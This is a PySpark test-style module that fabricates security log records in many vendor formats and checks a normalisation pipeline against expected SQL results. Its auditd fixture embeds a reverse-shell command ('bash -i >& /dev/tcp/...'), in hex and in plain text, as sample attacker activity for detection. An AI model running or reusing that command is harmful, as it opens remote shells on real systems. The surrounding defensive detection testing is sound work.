"""Queries over vendor records that Spark writes from the events table, and streams over that table."""

from __future__ import annotations

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from socspark.plans.queries import EV, query, security_events
from socspark.sources import normalize as N
from socspark.sources import readers, translate

HAS = lambda text: F.exists("tags", lambda t: t.contains(text))


def _raw(events: DataFrame, name: str, **fields) -> DataFrame:
    """One JSON record of the fields for each event."""
    record = F.to_json(F.struct(*[c.alias(n) for n, c in fields.items()]))
    return events.select(record.alias("raw"), F.lit(name).alias("source_log"), F.monotonically_increasing_id().alias("position"))


def _iso():
    return F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'")


def _known(rows: DataFrame) -> DataFrame:
    return N.resolve_hosts(rows, None)


def windows_records(events: DataFrame) -> DataFrame:
    code = F.when(F.col("action") == "LOGIN_FAILURE", "4625").when(F.col("action") == "PRIVILEGED_LOGIN", "4672").otherwise("4624")
    return _raw(events.where("event_type = 'authentication'"), "security", RecordId=F.col("event_id"), EventID=code, TimeCreated=_iso(), Computer=F.concat("destination_host", F.lit(".corp.local")), WorkstationName=F.col("source_host"), TargetUserName=F.concat(F.lit("CORP\\"), "user"), LogonType=F.lit("10"), IpAddress=F.col("source_ip"))


@query(
    f"""WITH {EV} SELECT event_id, epoch_us(timestamp) AS us, action, user, source_host, destination_host, source_ip, outcome, CASE action WHEN 'LOGIN_FAILURE' THEN 'low' ELSE 'medium' END AS severity, action = 'RDP_LOGIN' AND source_host <> destination_host AS remote
FROM ev WHERE event_type = 'authentication'"""
)
def normalize_windows_security(spark, sf_dir):
    out = N.windows_security(_known(N.with_fields(windows_records(security_events(spark, sf_dir)))))
    return out.select("event_id", F.unix_micros("timestamp").alias("us"), "action", "user", "source_host", "destination_host", "source_ip", "outcome", "severity", F.array_contains("tags", "remote-origin").alias("remote"))


def sysmon_records(events: DataFrame) -> DataFrame:
    return _raw(events.where("event_type = 'endpoint'"), "sysmon", RecordId=F.col("event_id"), EventID=F.lit("1"), UtcTime=_iso(), Computer=F.col("source_host"), User=F.col("user"), Image=F.concat(F.lit("C:\\Program Files\\"), "process"), ParentImage=F.concat(F.lit("C:/Windows/"), "parent_process"), CommandLine=F.col("command_line"))


@query(
    f"""WITH {EV}, s AS (SELECT *, coalesce(process = 'powershell.exe', false) AS ps, parent_process = 'winword.exe' AS office, command_line LIKE '%-enc%' AS enc, command_line LIKE '%net group%' OR command_line LIKE '%whoami /all%' AS looks FROM ev WHERE event_type = 'endpoint'),
a AS (SELECT *, CASE WHEN ps THEN 'POWERSHELL_EXEC' WHEN office THEN 'MALICIOUS_ATTACHMENT' WHEN looks THEN 'DISCOVERY_COMMAND' WHEN enc THEN 'SUSPICIOUS_EXECUTABLE' ELSE 'PROCESS_CREATE' END AS act FROM s)
SELECT event_id, act AS action, process, parent_process, user, CASE WHEN ps THEN CASE WHEN enc OR office THEN 'high' ELSE 'medium' END ELSE CASE act WHEN 'MALICIOUS_ATTACHMENT' THEN 'high' WHEN 'SUSPICIOUS_EXECUTABLE' THEN 'high' WHEN 'DISCOVERY_COMMAND' THEN 'medium' ELSE 'info' END END AS severity,
 CASE WHEN ps THEN enc OR office ELSE act = 'MALICIOUS_ATTACHMENT' OR enc END AS suspicious FROM a"""
)
def normalize_sysmon(spark, sf_dir):
    out = N.sysmon(_known(N.with_fields(sysmon_records(security_events(spark, sf_dir)))))
    return out.select("event_id", "action", "process", "parent_process", "user", "severity", "suspicious")


def dns_records(events: DataFrame) -> DataFrame:
    seconds = F.unix_micros("timestamp") / 1e6
    return _raw(events.where("event_type = 'dns'"), "dns", **{"uid": F.col("event_id"), "ts": seconds, "id.orig_h": F.col("source_ip"), "host": F.col("source_host"), "query": F.concat(F.upper("domain"), F.lit(".")), "qtype_name": F.lit("A")})


@query(
    f"""WITH {EV}, d AS (SELECT *, CASE WHEN domain LIKE '%.xyz' THEN 'SUSPICIOUS_DOMAIN' WHEN domain LIKE '%.corp.local' OR domain LIKE '%site1.example.com' OR domain LIKE '%site2.example.com' THEN 'DNS_QUERY' ELSE 'NEWLY_OBSERVED_DOMAIN' END AS act FROM ev WHERE event_type = 'dns')
SELECT event_id, domain, source_ip, source_host, act AS action, CASE act WHEN 'DNS_QUERY' THEN 'info' WHEN 'SUSPICIOUS_DOMAIN' THEN 'high' ELSE 'medium' END AS severity, act <> 'DNS_QUERY' AS suspicious FROM d"""
)
def normalize_dns_log(spark, sf_dir):
    known = spark.createDataFrame([("site1.example.com",), ("site2.example.com",)], "domain string")
    out = N.dns(_known(N.with_fields(dns_records(security_events(spark, sf_dir)))), known)
    return out.select("event_id", "domain", "source_ip", "source_host", "action", "severity", "suspicious")


def cef_records(events: DataFrame) -> DataFrame:
    outside = F.col("action") == "LOGIN_FAILURE"
    line = F.concat(
        F.lit("<134>CEF:0|Acme|Fire\\|Wall|7.2|13|traffic|3|rt="),
        F.unix_millis("timestamp").cast("string"),
        F.lit(" src="),
        "source_ip",
        F.lit(" dst="),
        F.when(outside, F.lit("45.33.32.156")).otherwise(F.col("destination_ip")),
        F.lit(" dpt="),
        F.when(F.col("action") == "RDP_LOGIN", "3389").otherwise("443"),
        F.lit(" act="),
        F.when(outside, "deny").otherwise("accept"),
        F.lit(" msg=a\\=b c externalId="),
        "event_id",
    )
    return _raw(events.where("event_type = 'authentication'"), "firewall", message=line)


@query(
    f"""WITH {EV} SELECT event_id, epoch_us(timestamp) // 1000 AS ms, CASE action WHEN 'LOGIN_FAILURE' THEN 'CONNECTION_BLOCKED' ELSE 'NETWORK_CONNECTION' END AS action, source_ip, CASE action WHEN 'LOGIN_FAILURE' THEN '45.33.32.156' ELSE destination_ip END AS destination_ip, CASE action WHEN 'LOGIN_FAILURE' THEN 'low' ELSE 'info' END AS severity,
 CASE action WHEN 'LOGIN_FAILURE' THEN 'outbound connection from ' || source_ip || ' to 45.33.32.156:443 was blocked by the firewall' WHEN 'RDP_LOGIN' THEN 'RDP connection between internal hosts ' || source_ip || ' -> ' || destination_ip ELSE '' END AS findings FROM ev WHERE event_type = 'authentication'"""
)
def normalize_cef(spark, sf_dir):
    from socspark.functions.columns import extract_findings

    out = N.cef(_known(N.with_fields(cef_records(security_events(spark, sf_dir)))))
    return out.select("event_id", F.unix_millis("timestamp").alias("ms"), "action", "source_ip", "destination_ip", "severity", F.array_join(extract_findings(F.col("tags")), ",").alias("findings"))


def audit_records(events: DataFrame) -> DataFrame:
    serial = F.substring("event_id", 4, 9)
    stamp = F.format_string("audit(%d.%03d:%s)", F.floor(F.unix_millis("timestamp") / 1000), F.pmod(F.unix_millis("timestamp"), F.lit(1000)), serial)
    run = F.concat(F.lit('type=EXECVE msg='), stamp, F.lit(': argc=3 a0="/bin/bash" a1="-c" a2='), F.when(F.col("action") == "POWERSHELL_EXEC", F.hex(F.lit("bash -i >& /dev/tcp/1.2.3.4/9 0>&1"))).otherwise(F.lit('"ls -l"')), F.lit(" node="), F.lower("source_host"))
    logon = F.concat(F.lit("type=USER_LOGIN msg="), stamp, F.lit(": pid=1 msg='op=login acct=\""), F.coalesce("user", F.lit("root")), F.lit("\" addr="), "source_ip", F.lit(" res="), F.when(F.col("outcome") == "failure", "failed").otherwise("success"), F.lit("' node="), F.lower("destination_host"))
    return _raw(events.where("event_type <> 'dns'"), "audit", message=F.when(F.col("event_type") == "endpoint", run).otherwise(logon))


@query(
    f"""WITH {EV} SELECT 'auditd-' || CASE event_type WHEN 'endpoint' THEN source_host ELSE destination_host END || '-' || substr(event_id, 4) || CASE event_type WHEN 'endpoint' THEN '-execve' ELSE '-user_login' END AS event_id,
 CASE WHEN event_type = 'endpoint' THEN CASE WHEN action = 'POWERSHELL_EXEC' THEN 'COMMAND_EXEC' ELSE 'PROCESS_CREATE' END WHEN outcome = 'failure' THEN 'LOGIN_FAILURE' ELSE 'NETWORK_LOGON' END AS action, CASE event_type WHEN 'endpoint' THEN NULL ELSE coalesce(user, 'root') END AS user,
 CASE WHEN event_type <> 'endpoint' THEN NULL WHEN action = 'POWERSHELL_EXEC' THEN '/bin/bash -c bash -i >& /dev/tcp/1.2.3.4/9 0>&1' ELSE '/bin/bash -c ls -l' END AS command_line, CASE event_type WHEN 'endpoint' THEN NULL ELSE source_ip END AS source_ip,
 CASE WHEN event_type = 'endpoint' THEN CASE WHEN action = 'POWERSHELL_EXEC' THEN 'high' ELSE 'info' END WHEN outcome = 'failure' THEN 'info' ELSE 'low' END AS severity FROM ev WHERE event_type <> 'dns'"""
)
def normalize_auditd(spark, sf_dir):
    out = N.auditd(_known(N.with_fields(audit_records(security_events(spark, sf_dir)))))
    return out.select("event_id", "action", "user", "command_line", "source_ip", "severity")


def cloud_records(events: DataFrame) -> DataFrame:
    call = F.when(F.col("action") == "RDP_LOGIN", "StopLogging").when(F.col("action") == "PRIVILEGED_LOGIN", "AttachUserPolicy").otherwise("ConsoleLogin")
    params = F.when(call == "AttachUserPolicy", F.struct(F.lit("arn:aws:iam::aws:policy/AdministratorAccess").alias("policyArn")))
    return _raw(events.where("event_type = 'authentication'"), "cloud", eventID=F.col("event_id"), eventName=call, eventSource=F.lit("iam.amazonaws.com"), awsRegion=F.lit("eu-west-1"), eventTime=_iso(), sourceIPAddress=F.col("source_ip"), recipientAccountId=F.lit("1111"), userIdentity=F.struct(F.lit("IAMUser").alias("type"), F.col("user").alias("userName")), requestParameters=params, responseElements=F.when(call == "ConsoleLogin", F.struct(F.lit("Success").alias("ConsoleLogin"))), additionalEventData=F.struct(F.lit("No").alias("MFAUsed")))


@query(
    f"""WITH {EV} SELECT 'aws-' || event_id AS event_id, CASE action WHEN 'RDP_LOGIN' THEN 'CLOUD_LOGGING_DISABLED' WHEN 'PRIVILEGED_LOGIN' THEN 'CLOUD_PRIVILEGE_CHANGE' ELSE 'LOGIN_SUCCESS' END AS action, coalesce(user, 'iamuser') AS user, 'AWS-1111' AS destination_host,
 CASE action WHEN 'RDP_LOGIN' THEN 'critical' WHEN 'PRIVILEGED_LOGIN' THEN 'high' ELSE 'medium' END AS severity, CASE action WHEN 'RDP_LOGIN' THEN 'CloudTrail logging was stopped by ' || coalesce(user, 'IAMUser') WHEN 'PRIVILEGED_LOGIN' THEN 'the AdministratorAccess policy was attached by ' || coalesce(user, 'IAMUser') ELSE 'console sign-in without MFA' END AS findings
FROM ev WHERE event_type = 'authentication'"""
)
def normalize_cloudtrail(spark, sf_dir):
    from socspark.functions.columns import extract_findings

    out = N.cloudtrail(_known(N.with_fields(cloud_records(security_events(spark, sf_dir)))))
    return out.select("event_id", "action", "user", "destination_host", "severity", F.array_join(extract_findings(F.col("tags")), ",").alias("findings"))


def sign_in_records(events: DataFrame) -> DataFrame:
    failed = F.col("outcome") == "failure"
    return _raw(events.where("event_type = 'authentication' AND user IS NOT NULL"), "sign-ins", id=F.col("event_id"), createdDateTime=_iso(), userPrincipalName=F.concat("user", F.lit("@corp.example")), appDisplayName=F.lit("Office 365 (Mail)"), ipAddress=F.col("source_ip"), status=F.struct(F.when(failed, 50126).otherwise(0).alias("errorCode")), riskLevelDuringSignIn=F.when(F.col("action") == "RDP_LOGIN", "high").otherwise("none"), clientAppUsed=F.lit("IMAP4"))


@query(
    f"""WITH {EV} SELECT 'entra-' || event_id AS event_id, CASE outcome WHEN 'failure' THEN 'LOGIN_FAILURE' ELSE 'LOGIN_SUCCESS' END AS action, user, 'M365-OFFICE-365-MAIL' AS destination_host, CASE WHEN action = 'RDP_LOGIN' THEN 'high' WHEN outcome = 'failure' THEN 'medium' ELSE 'low' END AS severity, action = 'RDP_LOGIN' AS suspicious
FROM ev WHERE event_type = 'authentication' AND user IS NOT NULL"""
)
def normalize_entra(spark, sf_dir):
    out = N.entra(_known(N.with_fields(sign_in_records(security_events(spark, sf_dir)))))
    return out.select("event_id", "action", "user", "destination_host", "severity", "suspicious")


def syslog_lines(events: DataFrame) -> DataFrame:
    message = F.when(F.col("action") == "LOGIN_FAILURE", F.concat(F.lit("Failed password for invalid user "), "user", F.lit(" from "), "source_ip", F.lit(" port 22"))).when(F.col("action") == "RDP_LOGIN", F.concat(F.lit("Accepted publickey for "), "user", F.lit(" from "), "source_ip")).otherwise("Connection closed")
    lines = F.concat(F.lit("<38>1 "), _iso(), F.lit(" "), F.lower("destination_host"), F.lit(".corp.local sshd 12 - - "), message)
    return events.where("event_type = 'authentication' AND user IS NOT NULL").select(lines.alias("value"))


@query(f"WITH {EV} SELECT epoch_us(timestamp) // 1000 AS ms, user, destination_host, source_ip, action = 'LOGIN_FAILURE' AS failed, count(*) AS n FROM ev WHERE user IS NOT NULL AND action IN ('LOGIN_FAILURE', 'RDP_LOGIN') GROUP BY ALL")
def parse_syslog(spark, sf_dir):
    out = N.ecs_logon(N.prepared(readers.parse_syslog(syslog_lines(security_events(spark, sf_dir)), 2026), log_format="ecs"))
    return out.groupBy(F.unix_millis("timestamp").alias("ms"), "user", "destination_host", "source_ip", (F.col("action") == "LOGIN_FAILURE").alias("failed")).agg(F.count(F.lit(1)).alias("n"))


@query(f"WITH {EV} SELECT event_id, epoch_us(timestamp) AS us, action, 'hec-wire-' || event_type AS source_log FROM ev WHERE event_type <> 'dns'")
def unwrap_hec(spark, sf_dir):
    """Events inside collector envelopes, their time only in the envelope; look-ups come as text events and are dropped."""
    e = security_events(spark, sf_dir)
    inner = F.struct("event_id", "event_type", "action", "severity")
    structured = F.to_json(F.struct((F.unix_micros("timestamp") / 1e6).alias("time"), F.concat(F.lit("wire "), "event_type").alias("source"), inner.alias("event")))
    text = F.to_json(F.struct((F.unix_micros("timestamp") / 1e6).alias("time"), F.col("action").alias("event")))
    lines = e.select(F.when(F.col("event_type") == "dns", text).otherwise(structured).alias("value"))
    out = N.native(N.with_fields(readers.unwrap_hec(lines)))
    return out.select("event_id", F.unix_micros("timestamp").alias("us"), "action", "source_log")


@query(
    f"""WITH {EV} SELECT * FROM (SELECT 'security' AS source_log, event_type, count(*) AS n, 0 AS errors FROM ev WHERE event_type = 'authentication' GROUP BY ALL UNION ALL SELECT 'sysmon', event_type, count(*), 0 FROM ev WHERE event_type = 'endpoint' GROUP BY ALL UNION ALL SELECT 'dns', event_type, count(*), 0 FROM ev WHERE event_type = 'dns' GROUP BY ALL
UNION ALL SELECT 'firewall', 'network', count(*), 0 FROM ev WHERE event_type = 'authentication' UNION ALL SELECT 'audit', event_type, count(*), 0 FROM ev WHERE event_type <> 'dns' GROUP BY ALL UNION ALL SELECT 'cloud', CASE action WHEN 'LOGIN_FAILURE' THEN 'authentication' ELSE 'cloud' END AS t, count(*), 0 FROM ev WHERE event_type = 'authentication' GROUP BY t
UNION ALL SELECT 'sign-ins', event_type, count(*), 0 FROM ev WHERE event_type = 'authentication' AND user IS NOT NULL GROUP BY ALL UNION ALL SELECT 'junk', NULL, count(*), count(*) FROM ev WHERE event_type = 'dns') WHERE n > 0"""
)
def normalize_mixed(spark, sf_dir):
    e = security_events(spark, sf_dir)
    junk = e.where("event_type = 'dns'").select(F.concat(F.lit("{not json "), "domain").alias("raw"), F.lit("junk").alias("source_log"), F.monotonically_increasing_id().alias("position"))
    raw = windows_records(e)
    for part in (sysmon_records(e), dns_records(e), cef_records(e), audit_records(e), cloud_records(e), sign_in_records(e), junk):
        raw = raw.unionByName(part)
    return N.normalize(raw).groupBy("source_log", "event_type").agg(F.count(F.lit(1)).alias("n"), F.count("parse_error").alias("errors"))


def foreign_objects(events: DataFrame) -> DataFrame:
    """Objects of another tool's OCSF export, of which process starts that are no shell come as findings."""
    kind, code = F.col("event_type"), F.col("action")
    number = F.when(kind == "dns", 4003).when(code == "PRIVILEGED_LOGIN", 3003).when(kind == "authentication", 3002).when(code == "POWERSHELL_EXEC", 1007).otherwise(2004)
    field = lambda when, value: F.when(when, value)
    return _raw(
        events,
        "lake",
        class_uid=number,
        activity_id=F.lit(1),
        time=F.unix_millis("timestamp"),
        status_id=F.when(F.col("outcome") == "failure", 2).otherwise(1),
        logon_type_id=field(kind == "authentication", F.lit(10)),
        metadata=F.struct(F.col("event_id").alias("uid")),
        user=field(kind == "authentication", F.struct(F.col("user").alias("name"))),
        device=field(kind != "dns", F.struct(F.coalesce(F.when(kind == "endpoint", F.col("source_host")), "destination_host").alias("hostname"))),
        src_endpoint=F.struct(F.col("source_ip").alias("ip"), F.when(kind == "authentication", F.col("source_host")).alias("hostname")),
        query=field(kind == "dns", F.struct(F.col("domain").alias("hostname"), F.lit("A").alias("type"))),
        actor=field(kind == "endpoint", F.struct(F.struct(F.col("user").alias("name")).alias("user"))),
        process=field(kind == "endpoint", F.struct(F.col("process").alias("name"), F.col("command_line").alias("cmd_line"), F.struct(F.col("parent_process").alias("name")).alias("parent_process"))),
    )


@query(
    f"""WITH {EV} SELECT event_id, epoch_us(timestamp) // 1000 AS ms, CASE WHEN event_type = 'dns' THEN CASE WHEN domain LIKE '%.xyz' THEN 'SUSPICIOUS_DOMAIN' WHEN domain LIKE '%.corp.local' OR domain LIKE '%site1.example.com' OR domain LIKE '%site2.example.com' THEN 'DNS_QUERY' ELSE 'NEWLY_OBSERVED_DOMAIN' END ELSE action END AS action,
 CASE event_type WHEN 'dns' THEN NULL ELSE user END AS user, domain, command_line, NULL AS parse_error FROM ev WHERE event_type <> 'endpoint' OR action = 'POWERSHELL_EXEC'
UNION ALL SELECT NULL, NULL, NULL, NULL, NULL, NULL, 'a finding is no input event' FROM ev WHERE event_type = 'endpoint' AND action <> 'POWERSHELL_EXEC'"""
)
def normalize_foreign_ocsf(spark, sf_dir):
    known = spark.createDataFrame([("site1.example.com",), ("site2.example.com",)], "domain string")
    out = translate.normalize_ocsf(foreign_objects(security_events(spark, sf_dir)), None, known)
    good = lambda c: F.when(F.col("parse_error").isNull(), F.col(c))
    return out.select(good("event_id").alias("event_id"), F.when(F.col("parse_error").isNull(), F.unix_millis("timestamp")).alias("ms"), good("action").alias("action"), good("user").alias("user"), good("domain").alias("domain"), good("command_line").alias("command_line"), "parse_error")


def search_export_rows(events: DataFrame) -> DataFrame:
    """Search-export rows of three source types with local and UTC times and lists, and rows of a source type that is not read."""
    local = F.date_format(F.col("timestamp") - F.expr("INTERVAL 6 HOURS"), "yyyy-MM-dd HH:mm:ss.SSS 'UTC'")
    kind, number = F.col("event_type"), F.substring("event_id", 4, 9)
    source = F.when(kind == "endpoint", translate.EXPORT_SYSMON).when(kind == "dns", translate.EXPORT_DNS).when(F.col("action") == "PRIVILEGED_LOGIN", "stream:tcp").otherwise(translate.EXPORT_SECURITY)
    logon = kind == "authentication"
    inner = F.struct(
        source.alias("sourcetype"),
        F.when(kind != "dns", local).alias("_time"),
        F.when(kind == "dns", _iso()).alias("timestamp"),
        F.when(logon, number).alias("RecordNumber"),
        F.when(kind == "endpoint", number).alias("RecordID"),
        F.when(kind == "dns", number).alias("transaction_id"),
        F.when(kind == "endpoint", "1").when(F.col("action") == "LOGIN_FAILURE", "4625").when(logon, "4624").alias("EventCode"),
        F.when(logon, F.concat("destination_host", F.lit(".corp.local"))).alias("ComputerName"),
        F.when(kind == "endpoint", F.concat("source_host", F.lit(".corp.local"))).alias("Computer"),
        F.when(logon, F.array(F.lit("-"), F.coalesce("user", F.lit("guest")))).alias("Account_Name"),
        F.when(logon, F.array(F.lit("-"), F.lit("CORP"))).alias("Account_Domain"),
        F.when(logon, F.lit("10")).alias("Logon_Type"),
        F.when(logon, F.col("source_ip")).alias("Source_Network_Address"),
        F.when(kind == "endpoint", F.col("user")).alias("User"),
        F.when(kind == "endpoint", F.concat(F.lit("C:\\Windows\\"), "process")).alias("Image"),
        F.when(kind == "endpoint", F.concat(F.lit("C:\\Windows\\"), "parent_process")).alias("ParentImage"),
        F.col("command_line").alias("CommandLine"),
        F.when(kind == "dns", F.col("source_ip")).alias("src_ip"),
        F.when(kind == "dns", F.array("domain")).alias("query{}"),
    )
    return events.select(F.to_json(F.struct(inner.alias("result"))).alias("raw"), F.lit("export").alias("source_log"), F.monotonically_increasing_id().alias("position"))


@query(
    f"""WITH {EV}, g AS (SELECT *, substr(event_id, 4) AS number FROM ev WHERE action <> 'PRIVILEGED_LOGIN')
SELECT CASE event_type WHEN 'authentication' THEN 'set-sec-' || destination_host || '-' || number WHEN 'endpoint' THEN 'set-sysmon-' || source_host || '-' || number ELSE 'set-dns-' || strftime(timestamp, '%Y-%m-%dT%H:%M:%S.%f') || 'Z-' || source_ip || '-' || number END AS event_id,
 CASE event_type WHEN 'dns' THEN epoch_us(timestamp) ELSE epoch_us(timestamp) // 1000000 * 1000000 END AS us, CASE event_type WHEN 'authentication' THEN coalesce(user, 'guest') WHEN 'endpoint' THEN user END AS user, process, domain, source_ip, true AS tagged, NULL AS parse_error
FROM (SELECT * REPLACE (CASE event_type WHEN 'endpoint' THEN NULL ELSE source_ip END AS source_ip) FROM g)
UNION ALL SELECT NULL, NULL, NULL, NULL, NULL, NULL, true, 'source type stream:tcp is not read' FROM ev WHERE action = 'PRIVILEGED_LOGIN'"""
)
def normalize_search_export(spark, sf_dir):
    out = translate.normalize_export(search_export_rows(security_events(spark, sf_dir)), "set")
    good = lambda c: F.when(F.col("parse_error").isNull(), c)
    return out.select(good(F.col("event_id")).alias("event_id"), good(F.unix_micros("timestamp")).alias("us"), *[good(F.col(c)).alias(c) for c in ("user", "process", "domain", "source_ip")], F.array_contains("tags", "dataset:set").alias("tagged"), "parse_error")
